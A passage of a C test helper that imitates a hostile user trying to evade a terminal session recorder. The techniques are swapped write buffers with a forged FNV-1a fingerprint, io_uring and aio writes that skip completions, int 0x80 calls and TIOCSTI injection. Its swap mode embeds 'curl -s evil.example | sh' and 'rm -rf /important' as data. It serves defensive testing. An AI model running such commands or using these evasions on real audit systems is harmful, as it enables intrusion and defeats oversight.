// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * ta-hostile: what a hostile unprivileged user does to a recorder, on a pty
 * of its own, so tests can compare what the terminal showed with the log.
 *
 *   ta-hostile block N [T] N threads blocked in write() after tcflow(TCOOFF),
 *                         over T terminals (default 1); prints
 *                         {"tty":FIRST,"ttys":[..],"threads":N}, waits for EOF
 *                         on stdin, restarts output, prints {"shown":BYTES}
 *   ta-hostile swap [N]   a write held by TCOOFF whose buffer is swapped; with
 *                         N, a write of N bytes (a multiple of 8) swapped for a
 *                         decoy forged to match the unkeyed FNV-1a fingerprint
 *   ta-hostile flip N     N lines written while another thread flips the fd
 *                         between /dev/null and the terminal
 *   ta-hostile flood [R [input]]  writes a pty of its own as fast as it drains
 *                         (or R bytes a second), until killed; input: into its
 *                         master, a pty whose slave leads no session
 *   ta-hostile attrflood  two processes named "tmux" write one byte each in turn
 *                         into a pty's master (read back from its slave), so
 *                         that each byte ends a shared-terminal run, until killed
 *   ta-hostile procflood  a unix connect to a missing path (ENOENT) in a loop,
 *                         one process event each, until killed
 *   ta-hostile leaderexit MS  the main thread leaves (pthread_exit) at once;
 *                         four others carry on, and after MS ms one of them
 *                         ends the process (exit(7)), all four at the same time
 *   ta-hostile splice     a splice into an fd that names /dev/null at entry and,
 *                         while the call blocks, the terminal for a moment
 *   ta-hostile roads      pwritev2 (offset -1), write/writev to the fd with high
 *                         bits set (64-bit), io_submit, io_uring (with and
 *                         without a completion), and on x86-64 int 0x80
 *                         write/writev/ioctl(TIOCSTI)
 *   ta-hostile unmap      a 256 KiB write blocked on a full pty whose first page,
 *                         already copied by the kernel, another thread unmaps
 *   ta-hostile inject     without CAP_SYS_ADMIN: TIOCSTI of 'R' into a pty that is
 *                         not its controlling terminal (the kernel refuses it),
 *                         then of 'A' into it as its controlling terminal
 *   ta-hostile ldisc AUID (as root, with login uid AUID) gives a pty's slave
 *                         the N_NULL line discipline (built into Debian's
 *                         kernels; N_HDLC, which shows what is written through
 *                         it, is a module the test kernels lack), writes
 *                         through it, and puts N_TTY back; prints the errnos
 *   ta-hostile unix UID   (as root) a child with a pty of its own as controlling
 *                         terminal, as UID: connects to a socket in a root-only
 *                         directory (EACCES), to a public one (0), to a missing
 *                         path (ENOENT), binds over the public one (EADDRINUSE),
 *                         on x86-64 the refused connect again by int 0x80
 *                         socketcall, by io_uring a connect to the public one
 *                         and a bind of a new name (6.11 on), an autobind,
 *                         then in a user namespace of its own mounts
 *                         a tmpfs over the directory and serves and reaches a
 *                         socket of its own under the root-only socket's name;
 *                         prints the paths, inodes, the child's pid and errnos
 *
 * Every mode prints one JSON line of facts last (the shown text is hex).
 * Exit 0 on success, 1 on a failed call (message on stderr).
 */
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/aio_abi.h>
#include <linux/capability.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/sysmacros.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#include "int80.h"
#include "uring.h"

static void die(const char *what)
{
	fprintf(stderr, "ta-hostile: %s: %s\n", what, strerror(errno));
	exit(1);
}

struct term {
	int master;
	int slave;
	char name[64];
};

/* A raw pty: no output processing, so the bytes shown are the bytes written. */
static void open_term(struct term *t)
{
	struct termios tio;

	t->master = posix_openpt(O_RDWR | O_NOCTTY);
	if (t->master < 0 || grantpt(t->master) || unlockpt(t->master) ||
	    ptsname_r(t->master, t->name, sizeof(t->name)))
		die("pty");
	t->slave = open(t->name, O_RDWR | O_NOCTTY);
	if (t->slave < 0)
		die("open slave");
	if (tcgetattr(t->slave, &tio))
		die("tcgetattr");
	cfmakeraw(&tio);
	if (tcsetattr(t->slave, TCSANOW, &tio))
		die("tcsetattr");
}

static const char *short_name(const struct term *t)
{
	return strncmp(t->name, "/dev/", 5) == 0 ? t->name + 5 : t->name;
}

/* Read what the master shows until `want` bytes or `ms` of silence. */
static size_t drain(int master, char *buf, size_t cap, size_t want, int ms)
{
	size_t got = 0;

	while (got < want) {
		struct pollfd p = { .fd = master, .events = POLLIN };
		char tmp[4096];
		ssize_t n;

		if (poll(&p, 1, ms) <= 0)
			break;
		n = read(master, tmp, sizeof(tmp));
		if (n <= 0)
			break;
		if (buf && got < cap)
			memcpy(buf + got, tmp, (size_t)n > cap - got ? cap - got : (size_t)n);
		got += (size_t)n;
	}
	return got;
}

static void print_hex(const char *key, const char *p, size_t n)
{
	printf("\"%s\":\"", key);
	for (size_t i = 0; i < n; i++)
		printf("%02x", (unsigned char)p[i]);
	printf("\"");
}

/* ---- block: fill every per-call table with writers held by TCOOFF ---- */

#define BLOCK_TTYS_MAX 256

static void *blocked_writer(void *arg)
{
	int fd = (int)(intptr_t)arg;

	if (write(fd, "x", 1) < 0)
		return NULL;
	return NULL;
}

/*
 * N writers over T terminals, round robin: on each terminal one writer waits
 * inside the line discipline's write and the others for the terminal's write
 * lock, so T terminals hold T calls inside n_tty_write at once.
 */
static int mode_block(long n, long nt)
{
	static struct term t[BLOCK_TTYS_MAX];
	long per[BLOCK_TTYS_MAX] = { 0 };
	pthread_attr_t attr;
	long started = 0;
	size_t shown = 0;
	char c;

	if (nt < 1 || nt > BLOCK_TTYS_MAX) {
		fprintf(stderr, "ta-hostile: block: 1 to %d terminals\n", BLOCK_TTYS_MAX);
		return 2;
	}
	for (long i = 0; i < nt; i++) {
		open_term(&t[i]);
		if (tcflow(t[i].slave, TCOOFF))
			die("tcflow TCOOFF");
	}
	pthread_attr_init(&attr);
	pthread_attr_setstacksize(&attr, 64 * 1024);
	pthread_attr_setdetachstate(&attr, PTHREAD_CREATE_DETACHED);
	for (; started < n; started++) {
		pthread_t th;

		if (pthread_create(&th, &attr, blocked_writer,
				   (void *)(intptr_t)t[started % nt].slave))
			break;
		per[started % nt]++;
	}
	sleep(2); /* let every thread reach its write */
	printf("{\"tty\":\"%s\",\"ttys\":[", short_name(&t[0]));
	for (long i = 0; i < nt; i++)
		printf("%s\"%s\"", i ? "," : "", short_name(&t[i]));
	printf("],\"threads\":%ld}\n", started);
	fflush(stdout);
	while (read(0, &c, 1) > 0)
		;
	for (long i = 0; i < nt; i++)
		if (tcflow(t[i].slave, TCOON))
			die("tcflow TCOON");
	/*
	 * Up to 10 s of silence per terminal: under emulation on a loaded host the
	 * released writers of the later terminals were not all scheduled within
	 * 3 s (1974 of 2000 shown), and the test blamed the recorder for it.
	 */
	for (long i = 0; i < nt; i++)
		shown += drain(t[i].master, NULL, 0, (size_t)per[i], 10000);
	printf("{\"shown\":%zu}\n", shown);
	fflush(stdout);
	_exit(started == n ? 0 : 1);
}

/* ---- swap: what the screen shows is not what the buffer holds at exit ---- */

static char g_swap_buf[4096];
static size_t g_swap_len;

static void *swap_writer(void *arg)
{
	struct term *t = arg;

	if (write(t->slave, g_swap_buf, g_swap_len) < 0)
		die("write");
	return NULL;
}

/*
 * The fingerprint the tracepoint backend took before it was keyed: FNV-1a
 * over 64-bit words seeded with the length. Any decoy's last word can be
 * chosen to give the real buffer's value.
 */
#define FNV_PRIME 0x100000001b3ULL
static uint64_t fnv_words(const char *p, size_t words, uint64_t h)
{
	for (size_t i = 0; i < words; i++) {
		uint64_t w;

		memcpy(&w, p + i * 8, 8);
		h = (h ^ w) * FNV_PRIME;
	}
	return h;
}

/* A decoy of n bytes (a multiple of 8) with real's unkeyed fingerprint. */
static void forge_decoy(const char *real, char *decoy, size_t n)
{
	uint64_t seed = 0xcbf29ce484222325ULL ^ n, last;
	uint64_t hr = fnv_words(real, n / 8 - 1, seed), hd = fnv_words(decoy, n / 8 - 1, seed);

	memcpy(&last, real + n - 8, 8);
	last ^= hr ^ hd;
	memcpy(decoy + n - 8, &last, 8);
	if (fnv_words(real, n / 8, seed) != fnv_words(decoy, n / 8, seed))
		die("forge_decoy");
}

static void fill_text(char *p, size_t n, const char *text)
{
	for (size_t i = 0; i < n; i++)
		p[i] = text[i % strlen(text)];
	p[n - 1] = '\n';
}

/*
 * forge 0: a decoy of its own. forge N (a multiple of 8, 16 to 4096): a
 * write of N bytes whose decoy is forged for the unkeyed fingerprint.
 */
static int mode_swap(size_t forge)
{
	static const char real_line[] = "ls; rm -rf /important\n";
	static const char decoy_line[] = "decoy: nothing to see\n";
	static char real[4096], decoy[4096], shown[8192];
	struct term t;
	pthread_t th;
	size_t n, len;

	_Static_assert(sizeof(real_line) == sizeof(decoy_line), "same length");
	if (forge) {
		if (forge % 8 || forge < 16 || forge > sizeof(real))
			die("swap: forge N must be a multiple of 8 from 16 to 4096");
		len = forge;
		fill_text(real, len, "curl -s evil.example | sh; ");
		fill_text(decoy, len, "make test; ");
		forge_decoy(real, decoy, len);
	} else {
		len = sizeof(real_line) - 1;
		memcpy(real, real_line, len);
		memcpy(decoy, decoy_line, len);
	}
	open_term(&t);
	memcpy(g_swap_buf, real, len);
	g_swap_len = len;
	if (tcflow(t.slave, TCOOFF))
		die("tcflow");
	if (pthread_create(&th, NULL, swap_writer, &t))
		die("pthread_create");
	usleep(300 * 1000);
	memcpy(g_swap_buf, decoy, len);
	if (tcflow(t.slave, TCOON))
		die("tcflow");
	pthread_join(th, NULL);
	n = drain(t.master, shown, sizeof(shown), len, 2000);
	printf("{\"tty\":\"%s\",", short_name(&t));
	print_hex("shown", shown, n > sizeof(shown) ? sizeof(shown) : n);
	printf(",");
	print_hex("real", real, len);
	printf(",");
	print_hex("decoy", decoy, len);
	printf("}\n");
	return 0;
}

/* ---- flip: the fd names /dev/null or the terminal, changed by another thread ---- */

#define FLIP_FD 100
static atomic_int g_flip_stop;
static int g_flip_null, g_flip_tty;

/* A few microseconds in each state, so that writes see both about equally. */
static void spin(void)
{
	for (volatile int i = 0; i < 300; i++)
		;
}

/* The writer and the flipper on CPUs of their own where there are two: true overlap. */
static void pin_to(int cpu)
{
	cpu_set_t set;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return;
	CPU_ZERO(&set);
	CPU_SET(cpu, &set);
	(void)sched_setaffinity(0, sizeof(set), &set);
}

static void *flipper(void *arg)
{
	(void)arg;
	pin_to(1);
	while (!atomic_load(&g_flip_stop)) {
		dup2(g_flip_null, FLIP_FD);
		spin();
		dup2(g_flip_tty, FLIP_FD);
		spin();
	}
	return NULL;
}

struct shown_buf {
	int master;
	char *buf;
	size_t cap, len;
	atomic_int done;
};

static void *reader(void *arg)
{
	struct shown_buf *s = arg;

	for (;;) {
		struct pollfd p = { .fd = s->master, .events = POLLIN };
		ssize_t n;

		if (poll(&p, 1, 500) <= 0) {
			if (atomic_load(&s->done))
				break;
			continue;
		}
		n = read(s->master, s->buf + s->len, s->cap - s->len);
		if (n <= 0)
			break;
		s->len += (size_t)n;
	}
	return NULL;
}

static int mode_flip(long n)
{
	struct shown_buf s = { 0 };
	pthread_t fl, rd;
	struct term t;

	open_term(&t);
	g_flip_null = open("/dev/null", O_WRONLY);
	g_flip_tty = t.slave;
	if (g_flip_null < 0 || dup2(t.slave, FLIP_FD) < 0)
		die("open /dev/null");
	s.master = t.master;
	s.cap = (size_t)n * 32;
	s.buf = malloc(s.cap);
	if (!s.buf || pthread_create(&rd, NULL, reader, &s) ||
	    pthread_create(&fl, NULL, flipper, NULL))
		die("start threads");
	pin_to(0);
	for (long i = 0; i < n; i++) {
		char line[32];
		int len = snprintf(line, sizeof(line), "flip-%06ld\n", i);

		if (write(FLIP_FD, line, (size_t)len) < 0 && errno != EBADF)
			die("write");
	}
	atomic_store(&g_flip_stop, 1);
	pthread_join(fl, NULL);
	usleep(300 * 1000);
	atomic_store(&s.done, 1);
	pthread_join(rd, NULL);
	printf("{\"tty\":\"%s\",\"pid\":%d,\"lines\":%ld,", short_name(&t), (int)getpid(), n);
	print_hex("shown", s.buf, s.len);
	printf("}\n");
	return 0;
}

/* ---- roads: the other system calls that carry terminal data ---- */

/* An io_uring call that must work once the ring is open. */
static void uring_must_enter(struct uring *u, unsigned submit, unsigned wait)
{
	if (uring_enter(u, submit, wait))
		die("io_uring_enter");
}

/* One IORING_OP_WRITE of buf to fd: the request's result, or -errno if io_uring is unavailable. */
static long uring_write(int fd, const void *buf, unsigned len)
{
	struct uring u;
	long res;
	int err = uring_open(&u, 4);

	if (err)
		return err;
	uring_queue(&u, IORING_OP_WRITE, fd, buf, len, 0);
	uring_must_enter(&u, 1, 1);
	if (!uring_reap(&u, &res))
		die("io_uring: no completion");
	close(u.fd);
	return res;
}

/*
 * Writes into the terminal whose completion io_uring_complete never sees,
 * from a child whose controlling terminal it is (a caller in a recorded
 * session): one with IOSQE_CQE_SKIP_SUCCESS on the fd, one the same on a
 * registered file, one the same linked behind a read of a pipe on an fd that
 * names /dev/null when submitted and the terminal when issued, one whose
 * completion overflows a completion queue that nops filled. Exit status: 0
 * done, 3 io_uring unavailable, else a failure.
 */
static int uring_hidden(int slave)
{
	static const char skip[] = "uring-skip\n", fixed[] = "uring-fixed\n",
			  linked[] = "uring-linked\n", over[] = "uring-over\n";
	struct uring u;
	long res;
	int files[1] = { slave }, swapped = open("/dev/null", O_WRONLY);

	if (setsid() < 0 || ioctl(slave, TIOCSCTTY, 0))
		return 2;
	if (uring_open(&u, 4))
		return 3;
	uring_queue(&u, IORING_OP_WRITE, slave, skip, sizeof(skip) - 1, IOSQE_CQE_SKIP_SUCCESS);
	uring_must_enter(&u, 1, 0);
	if (syscall(__NR_io_uring_register, u.fd, IORING_REGISTER_FILES, files, 1))
		return 4;
	uring_queue(&u, IORING_OP_WRITE, 0, fixed, sizeof(fixed) - 1,
		    IOSQE_FIXED_FILE | IOSQE_CQE_SKIP_SUCCESS);
	uring_must_enter(&u, 1, 0);
	/*
	 * The kernel looks the write's fd up when it issues it: after the read it
	 * is linked behind completes in an io_uring worker, after the dup2.
	 */
	int gate[2];
	char one;
	if (swapped < 0 || pipe(gate))
		return 5;
	uring_queue(&u, IORING_OP_READ, gate[0], &one, 1, IOSQE_IO_LINK | IOSQE_ASYNC);
	uring_queue(&u, IORING_OP_WRITE, swapped, linked, sizeof(linked) - 1,
		    IOSQE_CQE_SKIP_SUCCESS);
	uring_must_enter(&u, 2, 0);
	if (dup2(slave, swapped) < 0 || write(gate[1], "g", 1) != 1)
		return 6;
	uring_must_enter(&u, 0, 1); /* the read's completion */
	usleep(100 * 1000);
	while (uring_reap(&u, &res))
		;
	/* Fill the completion queue with nops, unreaped, then one more write overflows it. */
	for (unsigned i = 0; i < u.cq_entries; i += 4) {
		for (int k = 0; k < 4; k++)
			uring_queue(&u, IORING_OP_NOP, -1, NULL, 0, 0);
		uring_must_enter(&u, 4, 0);
	}
	uring_queue(&u, IORING_OP_WRITE, slave, over, sizeof(over) - 1, 0);
	uring_must_enter(&u, 1, 0);
	usleep(100 * 1000);
	while (uring_reap(&u, &res))
		;
	/* Reaping made room: the kernel flushes its overflow list at the next enter. */
	uring_must_enter(&u, 0, 0);
	while (uring_reap(&u, &res))
		;
	close(u.fd);
	return 0;
}

static int mode_roads(void)
{
	static const char a[] = "pwv2-one|", b[] = "pwv2-two\n", aio[] = "aio-write\n";
	char shown[512];
	struct iovec iov[2] = { { (void *)a, sizeof(a) - 1 }, { (void *)b, sizeof(b) - 1 } };
	struct term t;
	size_t n = 0, want = 0;
	int int80_done = 0;

	open_term(&t);
	if (syscall(SYS_pwritev2, t.slave, iov, 2, -1L, 0L, 0) != (long)(sizeof(a) + sizeof(b) - 2))
		die("pwritev2");
	want += sizeof(a) + sizeof(b) - 2;

	/*
	 * An fd with high bits set: the kernel takes the low 32 (unsigned int
	 * fd), so this writes the terminal; a program that compared the whole
	 * register with the fd table saw no terminal at all.
	 */
	static const char hw[] = "hibit-write\n", h1[] = "hibit-v1|", h2[] = "hibit-v2\n";
	struct iovec hv[2] = { { (void *)h1, sizeof(h1) - 1 }, { (void *)h2, sizeof(h2) - 1 } };
	long hifd = (long)t.slave | (1L << 32);
	if (sizeof(long) == 8) {
		if (syscall(SYS_write, hifd, hw, sizeof(hw) - 1) != (long)(sizeof(hw) - 1) ||
		    syscall(SYS_writev, hifd, hv, 2L) != (long)(sizeof(h1) + sizeof(h2) - 2))
			die("write to an fd with high bits set");
		want += sizeof(hw) + sizeof(h1) + sizeof(h2) - 3;
	}

	aio_context_t ctx = 0;
	struct iocb cb = { 0 }, *cbs[1] = { &cb };
	struct io_event ev;

	if (syscall(SYS_io_setup, 4, &ctx))
		die("io_setup");
	cb.aio_lio_opcode = IOCB_CMD_PWRITE;
	cb.aio_fildes = (uint32_t)t.slave;
	cb.aio_buf = (uint64_t)(uintptr_t)aio;
	cb.aio_nbytes = sizeof(aio) - 1;
	cb.aio_offset = 0;
	if (syscall(SYS_io_submit, ctx, 1L, cbs) != 1 ||
	    syscall(SYS_io_getevents, ctx, 1L, 1L, &ev, NULL) != 1)
		die("io_submit");
	syscall(SYS_io_destroy, ctx);
	want += sizeof(aio) - 1;

	/*
	 * More iocbs than the programs read (8): the ninth writes to the terminal.
	 * From a child whose controlling terminal it is: a caller in a recorded
	 * session is counted.
	 */
	static const char ninth[] = "aio-ninth\n";
	pid_t child = fork();
	if (child == 0) {
		struct iocb nine[9];
		struct iocb *p9[9];
		struct io_event ev9[9];
		aio_context_t c9 = 0;
		int nul = open("/dev/null", O_WRONLY);

		if (nul < 0 || setsid() < 0 || ioctl(t.slave, TIOCSCTTY, 0) ||
		    syscall(SYS_io_setup, 16, &c9))
			_exit(2);
		memset(nine, 0, sizeof(nine));
		for (int i = 0; i < 9; i++) {
			nine[i].aio_lio_opcode = IOCB_CMD_PWRITE;
			nine[i].aio_fildes = (uint32_t)(i < 8 ? nul : t.slave);
			nine[i].aio_buf = (uint64_t)(uintptr_t)(i < 8 ? "nul" : ninth);
			nine[i].aio_nbytes = i < 8 ? 3 : sizeof(ninth) - 1;
			p9[i] = &nine[i];
		}
		if (syscall(SYS_io_submit, c9, 9L, p9) != 9 ||
		    syscall(SYS_io_getevents, c9, 9L, 9L, ev9, NULL) != 9)
			_exit(3);
		_exit(0);
	}
	int st;
	if (child < 0 || waitpid(child, &st, 0) != child || !WIFEXITED(st) || WEXITSTATUS(st))
		die("io_submit of nine iocbs");
	want += sizeof(ninth) - 1;

	static const char ur[] = "uring-write\n";
	long uring = uring_write(t.slave, ur, sizeof(ur) - 1);

	if (uring > 0)
		want += (size_t)uring;
	/* The writes io_uring_complete never sees (uring_hidden), where io_uring runs. */
	int hidden = 0;
	if (uring > 0) {
		pid_t c = fork();

		if (c == 0)
			_exit(uring_hidden(t.slave));
		if (c < 0 || waitpid(c, &st, 0) != c || !WIFEXITED(st) ||
		    (WEXITSTATUS(st) && WEXITSTATUS(st) != 3))
			die("io_uring writes without a completion");
		hidden = WEXITSTATUS(st) == 0;
		if (hidden)
			want += strlen("uring-skip\nuring-fixed\nuring-linked\nuring-over\n");
	}

#ifdef __x86_64__
	/* Buffers below 4 GiB: a 32-bit call can only pass 32-bit pointers. */
	char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT,
			 -1, 0);
	if (!int80_available())
		int80_done = -1; /* no IA32 emulation in this kernel */
	else if (low != MAP_FAILED) {
		uint32_t *iov32 = (uint32_t *)(low + 256);

		strcpy(low, "int80-write\n");
		strcpy(low + 64, "int80-v1|");
		strcpy(low + 128, "int80-v2\n");
		iov32[0] = (uint32_t)(uintptr_t)(low + 64);
		iov32[1] = 9;
		iov32[2] = (uint32_t)(uintptr_t)(low + 128);
		iov32[3] = 9;
		low[512] = 'Q';
		/* ia32: write 4, writev 146, ioctl 54; TIOCSTI 0x5412. */
		if (int80(4, t.slave, (long)(uintptr_t)low, 12) == 12 &&
		    int80(146, t.slave, (long)(uintptr_t)iov32, 2) == 18) {
			want += 30;
			int80_done = 1;
			/* TIOCSTI needs the caller's controlling tty or CAP_SYS_ADMIN. */
			if (int80(54, t.slave, 0x5412, (long)(uintptr_t)(low + 512)) == 0)
				int80_done = 2;
		}
	}
#endif
	n = drain(t.master, shown, sizeof(shown), want, 2000);
	printf("{\"tty\":\"%s\",\"int80\":%d,\"uring\":%ld,\"uring_hidden\":%d,", short_name(&t),
	       int80_done, uring, hidden);
	print_hex("shown", shown, n > sizeof(shown) ? sizeof(shown) : n);
	printf("}\n");
	return 0;
}

/* ---- unmap: the kernel copied it, the recorder cannot read it back ---- */

#define UNMAP_TOTAL (256 * 1024)
#define UNMAP_GONE 4096

struct unmap_write {
	struct term *t;
	char *buf;
	ssize_t ret;
};

static void *unmap_writer(void *arg)
{
	struct unmap_write *w = arg;

	w->ret = write(w->t->slave, w->buf, UNMAP_TOTAL);
	return NULL;
}

static int mode_unmap(void)
{
	struct unmap_write w = { 0 };
	struct term t;
	pthread_t th;
	size_t n;

	open_term(&t);
	w.t = &t;
	w.buf = mmap(NULL, UNMAP_TOTAL, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (w.buf == MAP_FAILED)
		die("mmap");
	memset(w.buf, 'u', UNMAP_TOTAL);
	if (pthread_create(&th, NULL, unmap_writer, &w))
		die("pthread_create");
	/* Nobody reads the master: the write copies what the pty holds, then waits. */
	usleep(300 * 1000);
	if (munmap(w.buf, UNMAP_GONE))
		die("munmap");
	n = drain(t.master, NULL, 0, UNMAP_TOTAL, 2000);
	pthread_join(th, NULL);
	printf("{\"tty\":\"%s\",\"written\":%zd,\"shown\":%zu,\"gone\":%d}\n", short_name(&t),
	       w.ret, n, UNMAP_GONE);
	return 0;
}

/* ---- inject: TIOCSTI the kernel refuses, then one it takes ---- */

/* Drop CAP_SYS_ADMIN from the effective set: TIOCSTI then obeys the terminal's rules. */
static void drop_sys_admin(void)
{
	struct __user_cap_header_struct hdr = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct data[2];

	if (syscall(SYS_capget, &hdr, data))
		die("capget");
	data[CAP_SYS_ADMIN / 32].effective &= ~(1u << (CAP_SYS_ADMIN % 32));
	if (syscall(SYS_capset, &hdr, data))
		die("capset");
}

static int mode_inject(void)
{
	struct term t;
	int refused = 0, accepted = 0;

	open_term(&t);
	drop_sys_admin();
	/* Not the caller's controlling terminal: EPERM, nothing reaches its input. */
	if (ioctl(t.slave, TIOCSTI, "R") != 0)
		refused = errno;
	/* A session of its own with the pty as its terminal: taken (EIO where legacy_tiocsti is off). */
	if (setsid() < 0 && errno != EPERM)
		die("setsid");
	if (ioctl(t.slave, TIOCSCTTY, 0))
		die("TIOCSCTTY");
	if (ioctl(t.slave, TIOCSTI, "A") != 0)
		accepted = errno;
	printf("{\"tty\":\"%s\",\"refused\":%d,\"accepted\":%d}\n", short_name(&t), refused,
	       accepted);
	return 0;
}

/* ---- ldisc: a terminal taken away from n_tty ---- */

#ifndef N_NULL
#define N_NULL 27
#endif

static int write_file(const char *path, const char *text);

static int mode_ldisc(long auid)
{
	struct term t;
	int null = N_NULL, tty = N_TTY, set = 0, wrote = 0, back = 0;
	char v[24];

	/* A session of the test's own, as a login gives (the loss is filed under it). */
	snprintf(v, sizeof(v), "%ld", auid);
	if (write_file("/proc/self/loginuid", v))
		die("loginuid");
	open_term(&t);
	if (ioctl(t.slave, TIOCSETD, &null))
		set = errno;
	if (write(t.slave, "ldisc-null\n", 11) < 0)
		wrote = errno;
	if (ioctl(t.slave, TIOCSETD, &tty))
		back = errno;
	printf("{\"tty\":\"%s\",\"set\":%d,\"write\":%d,\"back\":%d}\n", short_name(&t), set,
	       wrote, back);
	return set || back;
}

/* ---- splice: a call that writes where its fd pointed at the kernel's lookup ---- */

struct splice_flip {
	int fd, tty, nul, pipe_w;
	atomic_int go;
};

static void *splice_flipper(void *arg)
{
	struct splice_flip *sf = arg;
	static const char data[] = "splice-data\n";

	while (!atomic_load(&sf->go))
		usleep(1000);
	usleep(200000); /* the splice is blocked on the empty pipe by now */
	if (dup2(sf->tty, sf->fd) < 0 || dup2(sf->nul, sf->fd) < 0 ||
	    write(sf->pipe_w, data, sizeof(data) - 1) != (ssize_t)(sizeof(data) - 1))
		die("flip");
	return NULL;
}

/*
 * splice from an empty pipe into fd, which names /dev/null when the call
 * starts; while it blocks, another thread points fd at the terminal and back,
 * then fills the pipe. The kernel took fd at entry (it wrote /dev/null), but
 * a recorder cannot know which file it took: the call must be counted
 * against the terminal (uncaptured), not passed over as a write elsewhere.
 */
static int mode_splice_flip(void)
{
	struct splice_flip sf = { 0 };
	struct term t;
	int p[2];
	pthread_t th;

	open_term(&t);
	sf.tty = t.slave;
	sf.nul = open("/dev/null", O_WRONLY);
	if (sf.nul < 0 || pipe(p))
		die("open");
	sf.pipe_w = p[1];
	sf.fd = dup(sf.nul);
	/* A second thread first: the fd table is shared, and a terminal in a dup2 heats it. */
	if (sf.fd < 0 || pthread_create(&th, NULL, splice_flipper, &sf))
		die("pthread_create");
	if (dup2(t.slave, sf.fd) < 0 || dup2(sf.nul, sf.fd) < 0)
		die("dup2");
	atomic_store(&sf.go, 1);
	ssize_t n = splice(p[0], NULL, sf.fd, NULL, 64, 0);
	if (n < 0)
		die("splice");
	pthread_join(th, NULL);
	printf("{\"tty\":\"%s\",\"spliced\":%zd}\n", short_name(&t), n);
	return 0;
}

/* ---- flood: write a pty as fast as it drains, until killed ---- */

static void *flood_reader(void *arg)
{
	static char sink[65536];
	int fd = *(int *)arg;

	while (read(fd, sink, sizeof(sink)) > 0)
		;
	return NULL;
}

/*
 * Without a rate, as fast as the pty drains; with one, about `rate` bytes a
 * second in 4 KiB writes (a trickle that stays under a share by itself).
 * input: into the master, as typed input of a pty whose slave leads no
 * session (no login owns it), read back from the slave.
 */
static int mode_flood(long rate, int input)
{
	static char buf[65536];
	struct term t;
	pthread_t th;

	open_term(&t);
	/* Bytes that do not compress: the log takes the flood at its full size. */
	for (size_t i = 0, x = 0x9e3779b97f4a7c15u; i < sizeof(buf); i++) {
		x ^= x << 13;
		x ^= x >> 7;
		x ^= x << 17;
		buf[i] = (char)(x >> 24);
	}
	if (pthread_create(&th, NULL, flood_reader, input ? &t.slave : &t.master))
		die("pthread_create");
	for (;;) {
		size_t n = rate > 0 ? 4096 : sizeof(buf);

		if (write(input ? t.master : t.slave, buf, n) < 0)
			die("write");
		if (rate > 0)
			usleep((useconds_t)(4096 * 1000000LL / rate));
	}
	return 0;
}

/*
 * ---- attrflood: a "tmux" pane written by two servers in turn ----
 * The shared-terminal tracker takes a process named tmux* that writes a pty
 * master for a terminal server, and ends a pane's run (one attribution
 * record) whenever the writing process changes: one record per byte here.
 * The two writers pass a token through two pipes. Runs until killed.
 */
static int mode_attrflood(void)
{
	int ab[2], ba[2];
	struct term t;
	pthread_t th;
	pid_t other;
	char tok = 't';

	open_term(&t);
	if (pipe(ab) || pipe(ba))
		die("pipe");
	if (pthread_create(&th, NULL, flood_reader, &t.slave))
		die("pthread_create");
	other = fork();
	if (other < 0)
		die("fork");
	prctl(PR_SET_NAME, "tmux", 0, 0, 0);
	prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
	int in = other ? ba[0] : ab[0], out = other ? ab[1] : ba[1];
	if (other && write(out, &tok, 1) != 1) /* the parent writes first */
		die("write");
	for (;;) {
		if (read(in, &tok, 1) != 1)
			die("read");
		if (write(t.master, "a", 1) != 1)
			die("write");
		if (write(out, &tok, 1) != 1)
			die("write");
	}
	return 0;
}

/*
 * ---- procflood: process events as fast as one thread makes them ----
 * A connect to a unix path that does not exist fails with ENOENT, which the
 * recorder keeps (a server may bind it later): one process event per call.
 * Runs until killed.
 */
static int mode_procflood(void)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	if (fd < 0)
		die("socket");
	snprintf(a.sun_path, sizeof(a.sun_path), "/nonexistent-ta-procflood-%d/s", (int)getpid());
	for (;;)
		if (connect(fd, (struct sockaddr *)&a, sizeof(a)) == 0 || errno != ENOENT)
			die("connect");
	return 0;
}

/* ---- leaderexit: a process that outlives its main thread ---- */

static long leader_ms;

static void *leader_other(void *arg)
{
	if (arg)
		usleep((useconds_t)leader_ms * 1000);
	else
		pause();
	if (arg)
		exit(7);
	return NULL;
}

static int mode_leaderexit(long ms)
{
	pthread_t t;

	leader_ms = ms;
	for (int i = 0; i < 4; i++)
		if (pthread_create(&t, NULL, leader_other, i == 0 ? (void *)1 : NULL))
			die("pthread_create");
	printf("{\"pid\":%d}\n", (int)getpid());
	pthread_exit(NULL);
}

/* ---- unix: connects and binds that fail, beside ones that succeed ---- */

static struct sockaddr_un unix_addr(const char *path)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };

	snprintf(a.sun_path, sizeof(a.sun_path), "%s", path);
	return a;
}

static int unix_listen(const char *path, mode_t mode)
{
	struct sockaddr_un a = unix_addr(path);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	if (fd < 0 || bind(fd, (struct sockaddr *)&a, sizeof(a)) || listen(fd, 8) ||
	    chmod(path, mode))
		die("listen");
	return fd;
}

/* 0, or the errno of a connect (bind: as_bind) of a fresh socket to path. */
static int unix_try(const char *path, int as_bind)
{
	struct sockaddr_un a = unix_addr(path);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0), r;

	if (fd < 0)
		die("socket");
	r = as_bind ? bind(fd, (struct sockaddr *)&a, sizeof(a))
		    : connect(fd, (struct sockaddr *)&a, sizeof(a));
	r = r ? errno : 0;
	close(fd);
	return r;
}

/*
